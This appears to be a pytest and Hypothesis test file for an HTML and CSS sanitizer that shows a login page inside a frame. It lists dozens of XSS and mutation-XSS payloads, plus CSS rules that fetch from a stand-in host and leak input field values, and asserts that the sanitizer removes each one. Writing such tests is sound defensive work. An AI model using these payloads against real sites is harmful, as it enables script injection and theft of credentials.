"""What is shown in the frame: nothing hostile passes, nothing harmless is lost, nothing is left to fetch."""

from __future__ import annotations

import base64
import re

import pytest
from bleach._vendor import html5lib  # type: ignore[import-untyped]
from hypothesis import given
from hypothesis import strategies as st

from loginlab.world.allowed_markup import ATTRIBUTES, ELEMENTS
from loginlab.world.display import build_display, clean_css
from loginlab.world.documents import is_web, parse_document

AT = "https://www.lantern.example/"
PIXEL = base64.b64decode("R0lGODlhAQABAAAAACwAAAAAAQABAAA=")


def shown(html: str, **parts: tuple[str, bytes]) -> str:
    return build_display(html, AT, {f"{AT}{name}": part for name, part in parts.items()}, title="T")


def bad_parts(html: str) -> list[str]:
    """What a frame may not hold, as a browser's own algorithm reads it: html5lib, not the parser that is tested."""
    bad = []
    for node in html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False).iter():
        if not isinstance(node.tag, str):
            bad.append("comment")
            continue
        if node.tag not in ELEMENTS | {"html", "head", "meta", "title", "style"}:
            bad.append(node.tag)
        for name, value in node.attrib.items():
            known = name in ATTRIBUTES | {"data-link", "data-form", "charset"} or name.startswith("aria-")
            address = name == "href" and re.match(r"https?://|#$", value)
            picture = name == "src" and re.match(r"data:image/|$", value)
            if not (known or address or picture):
                bad.append(f"{node.tag} {name}={value}")
    return bad


HOSTILE = [
    "<script>steal()</script>",
    "<script src=//www.harbour.example/x.js></script>",
    "<SCRIPT/x>steal()</SCRIPT>",
    "<script>steal()",
    "<svg><script>steal()</script></svg>",
    "<svg onload=steal()>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
    "<img src=x onerror=steal()>",
    "<img src='javascript:steal()'>",
    "<img src='data:text/html,<script>steal()</script>'>",
    "<img src=https://www.harbour.example/watch.gif>",
    "<img srcset='https://www.harbour.example/watch.gif 1x'>",
    "<body onload=steal() background=https://www.harbour.example/x>",
    "<p onclick=steal() style='background:url(https://www.harbour.example/x)'>p</p>",
    "<p oNcLiCk=steal()>p</p>",
    "<p/onclick=steal()>p</p>",
    "<a href='javascript:steal()'>a</a>",
    "<a href='JaVaScRiPt:steal()'>a</a>",
    "<a href='java&#10;script:steal()'>a</a>",
    "<a href=' &#1; javascript:steal()'>a</a>",
    "<a href='data:text/html,<script>steal()</script>'>a</a>",
    "<a href='vbscript:steal()'>a</a>",
    "<a href='/' target=_top ping=https://www.harbour.example/>a</a>",
    "<base href='https://www.harbour.example/'>",
    "<meta http-equiv=refresh content='0;url=https://www.harbour.example/'>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">",
    "<iframe src=https://www.harbour.example/></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
    "<frameset><frame src=//www.harbour.example></frameset>",
    "<form action=javascript:steal()><button formaction=javascript:steal()>b</button></form>",
    "<form action=https://www.harbour.example/ target=_top><input type=image src=//www.harbour.example/x></form>",
    "<input autofocus onfocus=steal()>",
    "<details open ontoggle=steal()>d</details>",
    "<video src=//www.harbour.example/x onerror=steal()><source onerror=steal()></video>",
    "<link rel=stylesheet href=https://www.harbour.example/x.css>",
    "<link rel=prefetch href=https://www.harbour.example/x><link rel=icon href=//www.harbour.example/i>",
    "<style>@import 'https://www.harbour.example/x.css'; p{background:url(//www.harbour.example/x)}</style>",
    "<style></style><script>steal()</script></style>",
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=steal()>">',
    '<title><p title="</title><img src=x onerror=steal()>">',
    '<xmp><p title="</xmp><img src=x onerror=steal()>">',
    "<template><script>steal()</script></template>",
    "<!-- --><script>steal()</script> -->",
    "<!--><script>steal()</script>",
    "<![CDATA[<script>steal()</script>]]>",
    "<?php <script>steal()</script> ?>",
    "<p title='\"><script>steal()</script>'>p</p>",
    "<p class='\"onmouseover=steal() x=\"'>p</p>",
    "<x-thing is=script onclick=steal()>x</x-thing>",
    "<a data-link=99 href=/>a</a><form data-form=99></form>",
    "<dialog open onclose=steal()>d</dialog><portal src=//www.harbour.example></portal>",
    "<html manifest=//www.harbour.example/x lang='\"><script>steal()</script>'>",
    "\x00<scr\x00ipt>steal()</scr\x00ipt>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_a_hostile_page_shows_nothing_that_runs_loads_or_leads_astray(html: str) -> None:
    """Only listed elements and attributes come out; addresses lead to the web or nowhere, pictures are inside."""
    assert bad_parts(shown(f"<p>before{html}<p>after")) == []


PIECES = [
    *HOSTILE,
    "<p>",
    "</p>",
    '"',
    "'",
    ">",
    "<",
    "/",
    "text",
    "<a href=",
    " x=",
    "--",
    "&lt;",
    "<a href=/>",
    "<form>",
]
pages = st.lists(st.sampled_from(PIECES), max_size=6).map("".join)


@given(pages)
def test_hostile_pieces_in_any_order_make_nothing_hostile(html: str) -> None:
    """Half a tag before a whole one is how filters are passed."""
    assert bad_parts(shown(html)) == []


@given(st.text(max_size=200))
def test_any_text_at_all_makes_nothing_hostile(html: str) -> None:
    """And never breaks the display."""
    assert bad_parts(shown(html)) == []


@given(
    st.lists(
        st.sampled_from(["</style>", "<script>", '"', "'", "/*", "*/", "{", "}", "p", "\\", "(", ";", "<!--", "</"])
    ).map("".join)
)
def test_no_stylesheet_leaves_its_element(css: str) -> None:
    """Whatever it holds, the text of a style element ends nowhere early."""
    assert "</" not in clean_css(css)


@pytest.mark.parametrize(
    "css",
    [
        "@import url(https://www.harbour.example/x.css);",
        "@IMPORT 'https://www.harbour.example/x.css';",
        "@\\69mport 'https://www.harbour.example/x.css';",
        "p { background: url(https://www.harbour.example/x) }",
        "p { background: URL('https://www.harbour.example/x') }",
        "p { background: u\\72l(https://www.harbour.example/x) }",
        "p { background: image-set('https://www.harbour.example/x' 1x) }",
        "p { background: var(--x, url(//www.harbour.example/x)) }",
        "@media print { p { background: url(//www.harbour.example/x) } }",
        "@font-face { src: url(//www.harbour.example/x.woff) }",
        "p { --x: { a: url(//www.harbour.example/x) } }",
        "input[value^=a] { background: url(//www.harbour.example/a) }",
        "p { background: url(//www.harbour.example/x",
        "p { background: url(//www.harbour.example/x y) }",
    ],
)
def test_a_stylesheet_fetches_nothing(css: str) -> None:
    """A style rule for each letter, each with an address of its own, can read a field aloud to a stranger."""
    assert "harbour" not in clean_css(css)
    assert "url(" not in clean_css(css)


def test_the_rules_of_a_stylesheet_stay() -> None:
    """Colours, media queries and pictures that lie inside it."""
    css = "@media (max-width:320px){main{color:#0071b3}} p{background:url(data:image/png;base64,AAAA)}"
    assert re.sub(r'[\s"]', "", clean_css(css)) == css.replace(" ", "")


def test_stylesheets_and_pictures_lie_inside_and_links_lead_where_they_led() -> None:
    """One document that needs nothing else; acts are known by their number."""
    out = shown(
        '<html lang="pt"><link rel="stylesheet" href="/site.css"><body class="calm"><h1>Sign in</h1>'
        '<img src="/logo.gif" alt="Lantern"><a href="/help">Help</a><a href="javascript:x">x</a>'
        '<form><label for="p">Password</label><input id="p" type="password" name="password"'
        ' autocomplete="current-password" aria-describedby="hint" required></form></body></html>',
        **{"site.css": ("text/css", b"h1{color:red}"), "logo.gif": ("image/gif", PIXEL)},
    )
    assert out.startswith('<!doctype html><html lang="pt"><head><meta charset="utf-8"><title>T</title><style>h1{color')
    assert f'<img src="data:image/gif;base64,{base64.b64encode(PIXEL).decode()}"' in out.replace(' alt="Lantern"', "")
    assert '<a href="https://www.lantern.example/help" data-link="0">Help</a><a href="#" data-link="1">x</a>' in out
    assert '<form data-form="0"><label for="p">Password</label><input id="p" type="password" name="password"' in out
    assert 'autocomplete="current-password" aria-describedby="hint" required=""' in out
    assert '<body class="calm"><h1>Sign in</h1>' in out


def test_what_is_left_out_is_left_out_to_its_own_end() -> None:
    """The end of an inner drawing is not the end of the outer one."""
    assert "drawn" not in shown("<svg><svg></svg><p>drawn</p></svg><p>written</p>")
    assert "<p>written</p>" in shown("<svg><svg></svg><p>drawn</p></svg><p>written</p>")


def test_a_linked_stylesheet_cannot_end_the_element_it_is_put_into() -> None:
    """It may come from a stranger, and it is text to begin with."""
    css = b'p{content:"</style><script>steal()</script>"}'
    out = shown('<link rel="stylesheet" href="/x.css">', **{"x.css": ("text/css", css)})
    assert bad_parts(out) == []
    assert "<script" not in out.replace("<\\/style><script>", "")


def test_a_stylesheet_nested_beyond_reading_is_left_out() -> None:
    """It can only be there to break its reader."""
    assert clean_css("p" + "{" * 50_000) == ""


def test_a_file_that_is_no_picture_is_not_shown_as_one() -> None:
    """Whatever its address ends in."""
    assert 'src=""' in shown('<img src="/x.png" alt="">', **{"x.png": ("text/html", b"<script>")})


@given(pages)
def test_the_numbers_in_the_frame_are_those_of_the_page(html: str) -> None:
    """Or a click would follow another link than the one that was seen."""
    page = parse_document(html, AT)
    root = html5lib.parse(shown(html), treebuilder="etree", namespaceHTMLElements=False)
    for node in root.iter("a"):
        if "data-link" in node.attrib:
            address = page.links[int(node.attrib["data-link"])].address
            assert node.attrib["href"] == (address if is_web(address) else "#")
    assert all(int(node.attrib["data-form"]) < len(page.forms) for node in root.iter("form"))
